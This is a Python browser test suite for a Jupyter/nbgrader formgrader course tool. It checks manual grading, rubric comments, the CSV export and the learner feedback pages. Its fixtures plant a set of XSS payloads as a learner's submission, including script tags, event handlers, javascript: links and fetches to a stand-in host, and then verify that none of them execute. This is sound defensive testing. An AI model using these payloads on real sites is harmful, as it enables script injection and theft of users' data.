"""A trainer's way through formgrader: a mark and a comment by hand reach the export and the learner's page.

What a learner wrote runs nowhere: not in formgrader, where it would have the trainer's rights, nor on the page that
the learner gets.
"""

from __future__ import annotations

import csv
import json
from collections.abc import Iterator, Mapping
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest

from tests.browser.servers import Heard, Server, Starting, enter, shoot, tofu, visit
from tests.browser.test_page import browser as browser  # noqa: PLC0414 (a fixture is used by its name)
from tests.course.folders import UNIT, answered, command, hand_in, new_course

if TYPE_CHECKING:
    from playwright.sync_api import Browser, Page

pytestmark = [pytest.mark.browser, pytest.mark.slow, pytest.mark.needs("notebooks", "jail")]

COMMENT = "Your decision names its denominator. 很好。"
KEPT = "Good: <b>numbers</b> first. 数字在先。"
TRAP = "window.top.trapped = 1; fetch('http://trap.invalid/script')"
WRITTEN = f"""Registered people served.

<script>{TRAP}</script><style>@import url(http://trap.invalid/style);</style>
<img src="http://trap.invalid/picture" onerror="{TRAP}"><svg onload="{TRAP}"></svg>
<iframe src="http://trap.invalid/frame"></iframe><details open ontoggle="{TRAP}">x</details>
<a class="bait" href="javascript:{TRAP}">click this link</a>

[click the link](javascript:window.top.trapped=1) and [click here](<java\tscript:window.top.trapped=1>)

[click there](&#106;avascript:window.top.trapped=1) and [click by name][name]

<javascript:window.top.trapped=1//click>

![picture](http://trap.invalid/markdown) [data](data:text/html,<script>alert(1)</script>)

[name]: javascript:window.top.trapped=1

`<b onmouseover=alert(1)>` is code.
"""
SHOWN = f"""
from IPython.display import HTML, Javascript, Markdown, SVG, Latex, display
display(HTML('''<script>{TRAP}</script><img src="http://trap.invalid/output" onerror="{TRAP}">
<a href="javascript:window.top.trapped=1">click the output</a>
<form action="http://trap.invalid/form"><input autofocus onfocus="{TRAP}"></form>'''))
display(Markdown('''<img src="x" onerror="{TRAP}"> [click](javascript:window.top.trapped=1)'''))
display(SVG('''<svg xmlns="http://www.w3.org/2000/svg" onload="{TRAP}"><script>{TRAP}</script></svg>'''))
display(Javascript('''{TRAP}'''), Latex('''<script>{TRAP}</script>'''))
print('</pre><script>{TRAP}</script>')
"""


def good(notebook: Any, model: Mapping[str, str]) -> None:
    answered(notebook, model)


def hostile(notebook: Any, model: Mapping[str, str]) -> None:
    answered(notebook, {"q1": f"{model['q1']}\n{SHOWN}", "reflection": WRITTEN})


@pytest.fixture(scope="module")
def graded(tmp_path_factory: pytest.TempPathFactory) -> Path:
    course = new_course(tmp_path_factory.mktemp("formgrader") / "night-class", {"ada": "Ada", "eve": "Eve"})
    hand_in(course, "ada", good)
    hand_in(course, "eve", hostile)
    command(course, "course", "collect", UNIT)
    command(course, "course", "grade", UNIT, "-q")
    return course


@pytest.fixture(scope="module")
def server(graded: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    starting = Starting(tmp_path_factory.mktemp("server") / "lab", "--course", str(graded))
    try:
        yield starting.ready()
    finally:
        starting.stop()


def submission(browser: Browser, server: Server, who: str) -> tuple[Page, Heard]:
    """Open the page on which a learner's work is marked, found as a trainer finds it."""
    tab, heard = enter(browser, server, f"/formgrader/gradebook/{UNIT}/{UNIT}")
    link = tab.locator("a[href*='/formgrader/submissions/']", has_text=who).first
    link.wait_for(state="attached")
    tab.goto(server.url + str(link.get_attribute("href")))
    tab.wait_for_selector(".nbgrader_cell input.score")
    return tab, heard


def test_the_trainer_finds_the_unit_in_formgrader_without_a_request_outside(browser: Browser, server: Server) -> None:
    tab, heard = enter(browser, server, "/formgrader/manage_assignments")
    tab.wait_for_selector(f"text={UNIT}")
    shoot(tab, "formgrader-assignments")
    assert "could not be created" not in tab.inner_text("body")
    assert tab.inner_text(f"tr:has-text('{UNIT}') .num-submissions").strip() == "2"
    assert (heard.outside, heard.errors) == ([], [])


def test_the_trainers_jupyterlab_has_the_menu_of_nbgrader(browser: Browser, server: Server) -> None:
    tab, heard = enter(browser, server, "/lab")
    tab.wait_for_selector(".lm-MenuBar-itemLabel:text('Nbgrader')")
    tab.click(".lm-MenuBar-itemLabel:text('Nbgrader')")
    assert tab.locator("li[data-command='nbgrader:open-formgrader']").count() == 1
    shoot(tab, "formgrader-lab")
    assert (heard.outside, heard.errors) == ([], [])


def test_what_a_learner_wrote_does_not_run_in_the_trainers_browser(browser: Browser, server: Server) -> None:
    tab, heard = submission(browser, server, "Eve")
    bait(tab)
    shoot(tab, "formgrader-eve", full=True)
    assert "Registered people served." in tab.inner_text("body")
    assert tab.evaluate("window.top.trapped") is None
    assert (heard.outside, heard.errors) == ([], [])


def test_nor_on_the_page_that_the_learner_gets(browser: Browser, graded: Path) -> None:
    path = graded / "feedback" / "eve" / UNIT / f"{UNIT}.html"
    tab, heard = visit(browser, path.as_uri())
    bait(tab)
    shoot(tab, "feedback-eve", full=True)
    assert tab.evaluate("window.top.trapped") is None
    assert (heard.outside, heard.errors) == ([], [])
    assert str(graded) not in path.read_text(encoding="utf-8")


def bait(tab: Page) -> None:
    """Do what a curious trainer does: wait, and follow every link that a learner could have put there."""
    tab.wait_for_timeout(500)
    for link in tab.locator("a", has_text="click").all():
        address = link.get_attribute("href") or ""
        if not address.startswith("http"):
            link.click(no_wait_after=True, modifiers=[])
            tab.wait_for_timeout(50)


def test_the_rubric_gives_the_points_and_the_comment_and_remembers_both(
    browser: Browser, server: Server, graded: Path
) -> None:
    tab, heard = submission(browser, server, "Eve")
    rubric = tab.locator(".vsim-rubric")
    rubric.wait_for()
    assert rubric.locator("tr").count() == 4
    for row, level, sum_ in ((0, 0, "1/5 (3"), (1, 1, "2/5 (2"), (2, 0, "3/5 (1"), (3, 2, "3/5")):
        rubric.locator("tr").nth(row).locator("button").nth(level).click()
        assert sum_ in rubric.locator("caption").inner_text()
    tab.wait_for_load_state("networkidle")
    assert tab.locator("input.score").last.input_value() == "3"
    comment = tab.locator("textarea.comment").last
    assert "- **Denominator** 1/2: named, not defended" in comment.input_value()
    with tab.expect_response(lambda answer: "/api/comment/" in answer.url and answer.request.method == "PUT"):
        comment.fill(comment.input_value() + f"\n\n{KEPT}")
        comment.press("Tab")
    with tab.expect_response(lambda answer: "/api/contents/" in answer.url and answer.request.method == "PUT") as put:
        rubric.locator("text=Keep this comment").click()
    assert put.value.ok
    shoot(tab, "formgrader-rubric", full=True)
    tab.reload()
    rubric.locator("button[aria-pressed=true]").nth(3).wait_for()
    assert "3/5" in rubric.locator("caption").inner_text()
    assert rubric.locator("option").last.get_attribute("value") == KEPT
    assert json.loads((graded / "rubrics" / f"{UNIT}.comments.json").read_text(encoding="utf-8")) == [KEPT]
    assert tab.evaluate("window.top.trapped") is None
    assert (heard.outside, heard.errors) == ([], [])


def test_a_mark_and_a_comment_by_hand_reach_the_export_and_the_learner(
    browser: Browser, server: Server, graded: Path
) -> None:
    tab, heard = submission(browser, server, "Ada")
    last = tab.locator(".nbgrader_cell").last
    with tab.expect_response(lambda answer: "/api/grade/" in answer.url and answer.request.method == "PUT"):
        last.locator("input.score").fill("4")
        last.locator("input.score").press("Tab")
    with tab.expect_response(lambda answer: "/api/comment/" in answer.url and answer.request.method == "PUT"):
        last.locator("textarea.comment").fill(COMMENT)
        last.locator("textarea.comment").press("Tab")
    shoot(tab, "formgrader-ada", full=True)
    assert (heard.outside, heard.errors) == ([], [])

    command(graded, "course", "export", UNIT, "-o", "marks.csv", "-q")
    with (graded / "marks.csv").open(encoding="utf-8-sig") as file:
        rows = {row["learner"]: row for row in csv.DictReader(file)}
    assert (rows["ada"]["reflection"], rows["ada"]["total"], rows["ada"]["state"]) == ("4", "19", "complete")
    assert rows["eve"]["reflection"] == "3"

    command(graded, "course", "grade", UNIT, "-q")  # nothing to grade anew, but the page is out of date
    page, noise = visit(browser, (graded / "feedback" / "ada" / UNIT / f"{UNIT}.html").as_uri())
    shoot(page, "feedback-ada", full=True)
    words = page.inner_text("main")
    assert "19 of 20 points" in words
    assert COMMENT in words
    assert "4 of 5 points, given by a person." in words
    assert tofu(page) == ""
    assert (noise.outside, noise.errors) == ([], [])
